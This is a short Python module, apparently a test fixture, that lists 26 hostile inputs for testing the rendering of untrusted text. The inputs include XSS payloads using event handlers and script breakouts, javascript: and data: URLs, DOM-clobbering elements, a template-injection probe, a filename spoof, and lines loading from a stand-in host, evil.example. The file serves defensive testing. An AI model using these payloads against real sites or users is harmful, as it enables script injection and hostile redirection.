"""Hostile texts, as a provider, a colleague or a file may hold them."""

from __future__ import annotations

EVIL = "http://evil.example"
SCHEMES = ("javascript:", "data:")


def payloads(code: str = "alert(1)") -> list[str]:
    """Return 26 texts that run *code*, or load something, where they are not text."""
    return [
        f"<img src=x onerror={code}>",
        f"<svg onload={code}>",
        f"<script>{code}</script>",
        f"</script><script>{code}</script>",
        f'"><img src=x onerror={code}>',
        f"'><img src=x onerror={code}>",
        f"` onmouseover={code} `",
        f"javascript:{code}",
        f"JaVaScRiPt:{code}",
        f"data:text/html,<script>{code}</script>",
        f"&lt;img src=x onerror={code}&gt;",
        '<a id="MathJax">x</a>',
        "<form><input name=attributes></form>",
        f'<button data-commandlinker-command="{code}">x</button>',
        f"<style>@import '{EVIL}'</style>",
        f'<meta http-equiv=refresh content="0;url={EVIL}">',
        f'<iframe srcdoc="<script>{code}</script>"></iframe>',
        f"<details open ontoggle={code}>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={code}>",
        "<!--<script>",
        f"$\\href{{javascript:{code}}}{{x}}$",
        "\\(\\unicode{x}\\)",
        "{{7*7}}",
        "\u202egnp.exe",
        f"\x1b]8;;{EVIL}\x07x",
        "<b>" * 33_000,
    ]
